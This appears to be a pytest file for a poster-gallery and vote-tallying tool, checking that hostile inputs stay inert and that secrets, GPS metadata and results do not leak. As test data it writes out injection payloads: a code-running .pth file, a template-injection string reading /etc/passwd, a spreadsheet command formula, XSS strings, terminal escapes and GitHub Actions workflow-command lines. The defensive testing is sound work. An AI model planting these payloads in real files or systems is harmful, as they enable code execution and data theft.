        (folder / "evil.pth").write_text("import pathlib; pathlib.Path(%r).write_text('ran')\n" % str(ran / "pth"))
        (folder / "main.html").write_text("{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %}")
        (folder / "mkdocs.yml").write_text("hooks: [mkdocs_hooks.py]\n")
    env = dict(os.environ, GALLERY_TEST_SECRET="s3cr3t-value-from-the-environment", NO_MKDOCS_2_WARNING="1")
    runs = [
        subprocess.run(
            [
                sys.executable,
                str(Path(__file__).parents[1] / "scripts/gallery.py"),
                "--config",
                str(project.config),
                "--lang",
                "en",
                command,
            ],
            cwd=project.root,
            capture_output=True,
            text=True,
            env=env,
            timeout=300,
        )
        for command in ("check", "build")
    ]
    runs.append(
        subprocess.run(
            [sys.executable, "-m", "mkdocs", "build"],
            cwd=project.root,
            capture_output=True,
            text=True,
            env=env,
            timeout=300,
        )
    )
    import shutil

    shutil.rmtree(tagged)  # with a poster in error, mkdocs build stops: build the site without it
    for path in (project.root / "posters").iterdir():
        if path.is_file():  # and without the files put directly into posters/, which are errors too
            path.unlink()
    runs.append(
        subprocess.run(
            [sys.executable, "-m", "mkdocs", "build"],
            cwd=project.root,
            capture_output=True,
            text=True,
            env=env,
            timeout=300,
        )
    )
    assert runs[-1].returncode == 0, runs[-1].stderr
    assert list(ran.iterdir()) == []
    assert [line for line in runs[0].stdout.splitlines() if line.startswith("posters/tagged/")][:4] == [
        "posters/tagged/poster.yml:1:8: 'title' must be a single text, not a list.",
        "posters/tagged/poster.yml:2:11: an entry in 'authors' is empty; write a name after the dash or remove the "
        "line.",
        "posters/tagged/poster.yml:3:7: 'role' must be a single text, not a list.",
        "posters/tagged/poster.yml:4:9: 'center' must be a single text, not a list.",
    ]
    for proc in runs:
        assert "s3cr3t" not in proc.stdout + proc.stderr and "Traceback" not in proc.stderr, proc.stderr
    for folder in (project.root / "docs", project.root / "site"):
        for path in folder.rglob("*"):
            if path.is_file():
                assert b"s3cr3t" not in path.read_bytes() and b"root:x:0:0" not in path.read_bytes(), path
    page = (project.root / "site/poster/one/index.html").read_text("utf-8")
    assert "<dd>GALLERY_TEST_SECRET</dd>" in page  # the tag is kept as the text written, never resolved


# ---------------------------------------------------------- vote export ---


def _vote_project(project):
    project.add_poster("las-smaw")
    project.write_config(
        "vote:\n  provider: google_forms\n"
        "  url: https://docs.google.com/forms/d/e/1FAIpQLSdx9TestForm0123/formResponse\n"
        "  fields: {poster: entry.1, token: entry.2}\n"
    )
    settings = project.check().settings
    posters, _ = load_posters(settings.root, settings.posters, EN, reserved=reserved_slugs())
    return settings.vote, posters


def test_export_cells_far_too_long_are_read_and_quoted_cut_short(project):
    vote, posters = _vote_project(project)
    export = (
        "Timestamp,poster,token\n"
        f"2024/01/30 9:00:00 AM GMT+7,las-smaw,{'1' * 32}\n"
        f'2024/01/30 9:01:00 AM GMT+7,las-smaw,"{"x" * 200_000}"\n'
        f"2024/01/30 9:03:00 AM GMT+7,las-smaw,{'2' * 32}\n"
    ).encode()
    result = tally.count_votes(export, vote, posters, EN)
    assert [(r.line, r.kind) for r in result.rejected] == [(3, "token")]
    assert result.rejected[0].reason == f"token '{'x' * 59}…' was not made by the vote page"
    assert result.rows == 3 and len(result.accepted) == 2
    old_mac = export.replace(b"\n", b"\r")
    again = tally.count_votes(old_mac, vote, posters, EN)
    assert again.rows == 3 and [r.line for r in again.rejected] == [3]
    # A time cell far too long, or a formula, stops the count, and is shown cut short and inert.
    hostile = export + f"2024/01/30 9:02:00 AM{' ' * 20_000}x,las-smaw,\n=1+1\x1b[2J,las-smaw,\n".encode()
    with pytest.raises(tally.ExportError) as refused:
        tally.count_votes(hostile, vote, posters, EN)
    assert refused.value.message.splitlines()[:2] == [
        "line 5: the time '2024/01/30 9:02:00 AM" + " " * 38 + "…' cannot be read.",
        "line 6: the time '=1+1\\x1b[2J' cannot be read.",
    ]


def test_tally_prints_export_values_with_control_characters_made_visible(project, tmp_path):
    vote, posters = _vote_project(project)
    export = tmp_path / "export.csv"
    export.write_bytes('Timestamp,poster,token\n2024/01/30 9:00:00 AM GMT+7,"las\x1b[2J\rOK\u202e",\n'.encode())
    proc = gallery_cli(project, "--lang", "en", "tally", str(export), "--out", str(tmp_path / "out"))
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines()[0] == (
        "line 2: unknown poster 'las\\x1b[2J\\x0dOK\\u202e' (no poster on the site has this id)"
    )
    assert "\x1b" not in proc.stdout and "\r" not in proc.stdout


def test_the_name_of_the_csv_inside_a_zip_export_is_shown_inert_everywhere(project, tmp_path):
    import zipfile

    from postergallery.model import visible

    vote, posters = _vote_project(project)
    name = "=cmd|' /C calc'!A0 <img src=x onerror=window.__pwned=50> {{ x }}\x1b[2J\u202e.csv"
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, f"Timestamp,poster,token\n2024/01/30 9:00:00 AM GMT+7,las-smaw,{'1' * 32}\n")
    result = tally.count_votes(packed.getvalue(), vote, posters, EN, export_name="x.zip")
    assert result.export_member == name and len(result.accepted) == 1
    tally.write_results(result, vote, tmp_path, EN)
    page = (tmp_path / "results.md").read_text("utf-8")
    assert "<img" not in page and "{{" not in page and "\x1b" not in page and "\u202e" not in page
    assert "&lt;img src=x onerror=window.\\_\\_pwned=50&gt; &#123;&#123; x &#125;&#125;" in page
    for line in tally.report_lines(result, EN):
        assert visible(line) == line
    rows = list(csv.reader(io.StringIO((tmp_path / "rejected.csv").read_text("utf-8"))))
    assert rows[1][3].startswith("the export is a zip file; the votes were read from =cmd|")


# ------------------------------------------------------- nothing leaked ---


def test_generated_pages_vote_results_and_ballot_codes_are_never_committed_by_accident(hostile, tmp_path):
    """`git add -A` must not pick up the results before the announcement, nor the ballot codes ever."""
    project, _ = hostile
    repo = tmp_path / "repo"
    repo.mkdir()
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    (repo / ".gitignore").write_bytes((Path(__file__).parents[1] / ".gitignore").read_bytes())
    project.build()  # what gallery.py build writes into docs/ (the way to a Zensical site)
    generated = json.loads((project.root / "docs/.gallery-generated.json").read_text())["files"]
    assert "results/index.md" in generated
    paths = sorted(
        {f"docs/{rel}" for rel in generated}
        | {"docs/.gallery-generated.json", "results/results.md", "results/rejected.csv", "ballot-codes/codes.csv"}
    )
    proc = subprocess.run(
        ["git", "check-ignore", "--no-index", "--verbose", "--non-matching", *paths],
        cwd=repo,
        capture_output=True,
        text=True,
    )
    not_ignored = [line.split("\t")[1] for line in proc.stdout.splitlines() if line.startswith("::")]
    assert not_ignored == []


def _with_location(path: Path, fmt: str) -> None:
    from PIL import Image

    exif = Image.Exif()
    exif[0x0112] = 1
    exif[0x8825] = {1: "S", 2: (6.0, 10.0, 30.0), 3: "E", 4: (106.0, 49.0, 0.0)}  # GPS: a house in Jakarta
    Image.new("RGB", (240, 340), (30, 120, 90)).save(path, fmt, exif=exif.tobytes())


def _with_xmp_location(path: Path) -> None:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (240, 340), (30, 120, 90)).save(out, "JPEG")
    xmp = (
        b'http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf='
        b'"http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/"'
        b' exif:GPSLatitude="6,10.5S" exif:GPSLongitude="106,49.0E"/></rdf:RDF></x:xmpmeta>'
    )
    data = out.getvalue()
    path.write_bytes(data[:2] + b"\xff\xe1" + (len(xmp) + 2).to_bytes(2, "big") + xmp + data[2:])


def _with_raw_profile_location(path: Path) -> None:
    """A phone photo converted to PNG by ImageMagick: its EXIF block kept as hex in a "Raw profile type exif" chunk."""
    from PIL import Image, PngImagePlugin

    exif = F.gps_exif()
    digits = exif.hex()
    text = f"\nexif\n{len(exif):8d}\n" + "\n".join(digits[i : i + 72] for i in range(0, len(digits), 72)) + "\n"
    info = PngImagePlugin.PngInfo()
    info.add_text("Raw profile type exif", text, zip=True)
    Image.new("RGB", (240, 340), (30, 120, 90)).save(path, "PNG", pnginfo=info)


def test_a_poster_file_that_records_where_it_was_taken_is_never_offered_as_it_is(project):
    """Renditions keep no metadata; the original is offered for download only when it holds no location (nor a
    motion photo's video)."""
    from PIL import Image

    project.write_config("posters: posters\noriginals: all")  # every other original is offered
    for slug, fmt in (("gps-jpeg", "JPEG"), ("gps-png", "PNG"), ("gps-webp", "WEBP")):
        _with_location(project.add_poster(slug, image=None) / f"poster.{fmt.lower().replace('jpeg', 'jpg')}", fmt)
    _with_xmp_location(project.add_poster("xmp-jpeg", image=None) / "poster.jpg")
    _with_raw_profile_location(project.add_poster("raw-png", image=None) / "poster.png")
    # A phone photo printed to PDF: the PDF keeps the photo's JPEG file, and its EXIF block, as they were.
    F.write_picture_pdf(project.add_poster("gps-pdf", image=None) / "poster.pdf", (240, 340), exif=F.gps_exif())
    # Motion photos: seconds of video with the room's sound after the picture, GPS or not.
    for maker in ("google", "samsung"):
        F.write_motion_photo(project.add_poster(f"motion-{maker}", image=None) / "poster.jpg", maker)
    project.add_poster("plain")
    F.write_picture_pdf(project.add_poster("plain-pdf", image=None) / "poster.pdf", (240, 340))
    result = project.build()
    assert result.ok, messages(result)
    docs = project.root / "docs/poster"
    for slug in (
        "gps-jpeg",
        "gps-png",
        "gps-webp",
        "xmp-jpeg",
        "raw-png",
        "gps-pdf",
        "motion-google",
        "motion-samsung",
    ):
        names = sorted(p.name for p in (docs / slug).iterdir())
        assert not [n for n in names if n.startswith(slug + ".")], names  # no copy of the original
        zoom = next(n for n in names if n.startswith("zoom."))  # the large image is offered instead
        size = "2560 × 3623" if slug == "gps-pdf" else "240 × 340"  # an A4 page drawn at the zoom width
        assert (
            f'href="{zoom}" download="{slug}.jpg">Download the poster as a large image (JPG, {size} px, '
            in (docs / slug / "index.md").read_text()
        )
        for name in names:
            if name.endswith((".jpg", ".webp")):
                with Image.open(docs / slug / name) as image:
                    assert not image.getexif().get_ifd(0x8825) and b"GPS" not in image.info.get("xmp", b""), name
    for slug, kind in (("plain", "JPG"), ("plain-pdf", "PDF")):
        name = f"{slug}.{kind.lower()}"
        assert (docs / slug / name).is_file()
        assert (
            f'href="{name}" download="{name}">Download the original poster ({kind}, '
            in (docs / slug / "index.md").read_text()
        )
    site = project.mkdocs("build", "--strict")
    assert site.returncode == 0, site.stderr
    for path in (project.root / "site").rglob("*"):  # nothing published anywhere says where a photo was taken
        if path.is_file() and path.suffix in (".jpg", ".png", ".webp"):
            with Image.open(path) as image:
                assert not image.getexif().get_ifd(0x8825) and b"GPSLatitude" not in path.read_bytes(), path
        elif path.suffix == ".pdf":
            assert path.name == "plain-pdf.pdf" and b"Exif" not in path.read_bytes(), path
        if path.is_file():
            assert b"MotionPhoto" not in path.read_bytes() and b"ftypmp42" not in path.read_bytes(), path


@pytest.mark.parametrize("link", ["results/results.md", "results/results.svg", "results"])
def test_published_results_are_never_read_through_a_link(project, tmp_path, link):
    """results/ may be committed (git add -f); a link there would publish whatever it leads to."""
    project.add_poster("one")
    project.write_config("results: true")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "results.md").write_text("# Results\n\nroot:x:0:0 secret\n")
    (outside / "results.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'><text>secret</text></svg>")
    results = project.root / "results"
    if link == "results":
        os.symlink(outside, results)
    else:
        results.mkdir()
        (results / "results.md").write_text("# Hasil\n")
        (results / "results.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'/>")
        (results / Path(link).name).unlink()
        os.symlink(outside / Path(link).name, results / Path(link).name)
    result = project.build()
    assert messages(result) == [
        f"{link}: this is a link (symlink) to another place; the results are published only "
        "from the files themselves, so replace the link with the file."
    ]
    published = project.root / "docs/results"
    assert not published.exists() or "secret" not in "".join(p.read_text() for p in published.iterdir())


def test_results_page_not_in_utf8_is_a_problem_not_a_traceback(project):
    project.add_poster("one")
    project.write_config("results: true")
    (project.root / "results").mkdir()
    (project.root / "results/results.md").write_bytes("# Hasil pemungutan suara: Caf\xe9\n".encode("cp1252"))
    assert messages(project.build()) == [
        "results/results.md: results.md is not saved as UTF-8 text; save it again with the UTF-8 encoding (in "
        "Notepad: File > Save As > Encoding: UTF-8)."
    ]


# ------------------------------------------------------------- the CI log ---


def test_no_name_or_value_can_start_a_workflow_command_in_the_ci_log(project):
    """GitHub Actions runs any output line starting with '::' (add-mask, stop-commands, fake annotations)."""
    project.add_poster("bad\n::add-mask::x\n::error file=mkdocs.yml,line=1::fake")
    folder = project.add_poster("good")
    (folder / "second\n::stop-commands::token.jpg").write_bytes(b"\xff\xd8\xff")
    project.add_poster("bad-role", GOOD_POSTER.replace("role: alumni", 'role: "x\\n::warning::fake"'))
    outputs = [
        gallery_cli(project, *args)
        for args in (("check",), ("check", "--format", "github"), ("build", "--format", "github"))
    ]
    outputs.append(project.mkdocs("build"))
    for proc in outputs:
        lines = (proc.stdout + proc.stderr).splitlines()
        commands = [line for line in lines if line.lstrip().startswith("::")]
        # Only the annotations the gallery means: a quoted name stays inside its line (commands count only
        # at the start of one), escaped as GitHub asks inside an annotation.
        annotation = r"::(error|warning) file=posters/[^:,]*(,line=\d+,col=\d+)?::"
        assert all(re.match(annotation, line) for line in commands), commands
    assert len([line for line in outputs[1].stdout.splitlines() if line.startswith("::error")]) == 3


def test_the_pull_request_summary_shows_hostile_posters_as_plain_text():
    from postergallery.commands.changes import ADDED, PosterChange, PosterDetails, render_summary
    from postergallery.model import Problem

    title = "<img src=x onerror=alert(1)> [klik](javascript:alert(2)) | ![x](https://evil.example/t)"
    details = PosterDetails(
        title=title, authors=("<script>", "a|b", "`c`"), role="<b>alumni</b>", center="*C* {{x}} &amp;"
    )
    problem = Problem("posters/x/poster.yml", 3, 1, "'role' is '<b>x</b>' [y](javascript:z)")
    text = render_summary(
        [PosterChange("x", ADDED, details, (problem,))], [], "posters", EN, preview="javascript:alert(3)"
    )
    row = next(line for line in text.splitlines() if line.startswith("| ➕"))
    assert len(re.findall(r"(?<!\\)\|", row)) == 7  # six cells: no pipe from the poster splits the table
    assert not re.search(r"(?<!\\)<[a-z/]", text.replace("<br>", ""))  # no HTML tag but the table's line break
    assert not re.search(r"(?<!\\)\]\(", text)  # no link or image syntax
    assert "javascript:alert(3)" not in text and "&amp;amp;" in text
